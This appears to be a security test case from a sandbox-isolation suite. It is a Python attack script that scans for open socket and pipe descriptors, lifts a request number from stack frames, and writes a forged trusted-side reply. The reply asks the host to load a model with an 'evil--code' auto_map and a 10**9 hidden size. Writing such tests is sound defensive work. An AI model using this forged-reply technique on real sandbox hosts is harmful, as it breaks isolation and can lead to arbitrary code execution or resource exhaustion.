"""
number = 9
family = "integrity"
what = "answer with the tags that only the trusted side may use, to make it build a model or a tokenizer of the job's choosing"
stopped_by = ["tags of the other direction are refused"]
verdicts = {full = ["bad_return", "passed"], contained = ["bad_return", "passed"], limited = ["bad_return", "passed"]}
"""

import json
import os
import stat
import struct
import sys


def channels() -> list[int]:
    found = []
    for number in range(3, 65):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(number)
    return found


def request_number() -> int:
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            table = value if isinstance(value, dict) else getattr(value, "header", None)
            if isinstance(table, dict) and isinstance(table.get("n"), int):
                return table["n"]
        frame = frame.f_back
    return 0


def attack(targets: dict) -> str:
    value = [
        {"$model": "BertModel", "config": {"auto_map": {"AutoModel": "evil--code"}, "hidden_size": 10**9}, "state": {}},
        {"$tokenizer": "{}", "settings": {}},
        {"$generator": 1},
        {"$linear": {"weight": None, "bias": None}},
    ]
    header = json.dumps({"n": request_number(), "ok": value}).encode()
    for number in channels():
        os.write(number, b"GRDF" + struct.pack("<IIQ", 1, len(header), 0) + header)
    return "stopped: behind a forged answer"
